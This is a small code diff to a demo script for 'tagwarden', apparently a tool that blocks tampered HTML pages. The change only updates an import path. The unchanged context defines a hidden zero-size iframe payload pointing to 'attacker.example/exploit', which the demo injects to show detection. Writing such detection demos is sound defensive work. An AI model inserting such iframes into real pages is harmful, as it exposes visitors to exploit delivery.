@@ -7,12 +7,12 @@
  * examples/pages/shop.html; /injected serves it with an attack <iframe> inserted, as a compromised
  * origin or a tampering hop would. The policy is examples/policies/learned.json, written by
  * `tagwarden learn` from that page: the clean page passes byte for byte, the tampered one gets the
- * 502 block page and the violation is printed. (In your code: `import { wrapHandler } from 'tagwarden'`.)
+ * 502 block page and the violation is printed. (In your code: `import { wrapHandler } from 'tagwarden/embed'`.)
  */
 import { readFileSync } from 'node:fs'
 import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
 import type { AddressInfo } from 'node:net'
-import { wrapHandler } from '../src/index.js'
+import { wrapHandler } from '../src/entries/embed.js'
 
 const page = readFileSync(new URL('./pages/shop.html', import.meta.url), 'utf8')
 const ATTACK = '<iframe src="http://attacker.example/exploit" width="0" height="0"></iframe>'
